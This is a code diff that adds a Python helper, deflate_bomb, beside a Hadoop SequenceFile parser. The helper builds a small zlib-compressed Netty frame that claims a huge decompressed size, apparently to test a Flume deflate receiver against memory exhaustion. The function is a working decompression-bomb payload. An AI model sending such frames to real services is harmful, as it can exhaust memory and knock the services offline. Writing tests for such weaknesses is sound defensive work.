@@ -197,3 +197,18 @@ def read_sequence_file(data: bytes) -> tuple[str, str, list[tuple[bytes, bytes]]
         key = stream.read(key_length)
         records.append((key, stream.read(length - key_length)))
     return key_class, value_class, records
+
+
+def deflate_bomb(claimed: int, piece: int = 1 << 16, serial: int = 1) -> bytes:
+    """The zlib bytes of one Netty frame claiming ``claimed`` bytes in buffers of ``piece`` zero bytes: about a
+    thousandth of it on the wire. Sync-flushed and left open, as a Flume client with compression-type deflate
+    leaves its connection's stream."""
+    z = zlib.compressobj(9)
+    count = -(-claimed // piece)
+    out = [z.compress(serial.to_bytes(4, "big") + count.to_bytes(4, "big"))]
+    zeros = bytes(piece)
+    for i in range(count):
+        size = min(piece, claimed - i * piece)
+        out.append(z.compress(size.to_bytes(4, "big") + zeros[:size]))
+    out.append(z.flush(zlib.Z_SYNC_FLUSH))
+    return b"".join(out)
